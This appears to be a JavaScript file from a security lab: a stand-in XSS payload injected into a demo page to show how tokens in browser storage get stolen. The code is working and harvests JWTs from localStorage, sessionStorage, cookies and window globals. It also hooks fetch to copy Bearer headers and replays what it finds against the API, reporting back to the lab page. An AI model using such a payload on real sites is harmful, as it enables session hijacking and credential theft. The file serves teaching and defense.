// The storage lab's stand-in for an XSS payload (/demo/storage injects it
// with a <script> element). It does what real payloads do: scrape storage,
// cookies and globals for tokens, wrap fetch to copy the Authorization
// header of the app's next request, then call the API with everything it
// found and with whatever the browser attaches by itself. It reports back
// to the lab page instead of to an attacker's server.
(() => {
  const loot = { found: [], calls: [] };
  const jwtish = /^eyJ[\w-]+\.[\w-]+\.[\w-]+$/;
  const keep = (where, name, value) => {
    if (typeof value === "string" && value !== "") loot.found.push({ where, name, value });
  };

  for (const [where, store] of [["localStorage", window.localStorage], ["sessionStorage", window.sessionStorage]]) {
    for (let i = 0; i < store.length; i++) {
      const k = store.key(i);
      const v = store.getItem(k);
      if (jwtish.test(v) || /token|auth|jwt|sess/i.test(k)) keep(where, k, v);
    }
  }
  for (const c of document.cookie.split(";")) {
    const i = c.indexOf("=");
    if (i > 0) keep("document.cookie", c.slice(0, i).trim(), c.slice(i + 1).trim());
  }
  for (const k of Object.getOwnPropertyNames(window)) {
    try {
      const v = window[k];
      if (typeof v === "string" && jwtish.test(v)) keep("window", k, v);
      else if (v && typeof v === "object" && !(v instanceof Node) && v !== window) {
        for (const k2 of Object.keys(v).slice(0, 100)) {
          const v2 = v[k2];
          if (typeof v2 === "string" && jwtish.test(v2)) keep("window", `${k}.${k2}`, v2);
        }
      }
    } catch { /* a property that throws on access */ }
  }

  const realFetch = window.fetch;
  window.fetch = function (input, init) {
    try {
      const h = new Headers((init && init.headers) || (input instanceof Request ? input.headers : undefined));
      const a = h.get("Authorization");
      if (a && a.startsWith("Bearer ")) keep("fetch", "Authorization", a.slice(7));
    } catch { /* not ours to break */ }
    return realFetch.apply(this, arguments);
  };

  window.addEventListener("lab-go", async () => {
    window.fetch = realFetch;
    const whoami = async (via, init) => {
      const r = await realFetch("/v1/whoami", init);
      if (r.ok) {
        const b = await r.json();
        loot.calls.push({ via, sid: b.auth.session_id, method: b.auth.method });
      }
    };
    const tokens = [...new Set(loot.found.map((f) => f.value).filter((v) => jwtish.test(v)))];
    for (const t of tokens) await whoami("stolen token", { headers: { Authorization: "Bearer " + t }, credentials: "omit" });
    await whoami("the browser's own cookies", { credentials: "include" });
    window.dispatchEvent(new CustomEvent("lab-loot", { detail: JSON.stringify(loot) }));
  }, { once: true });
  window.dispatchEvent(new Event("lab-payload-ready"));
})();
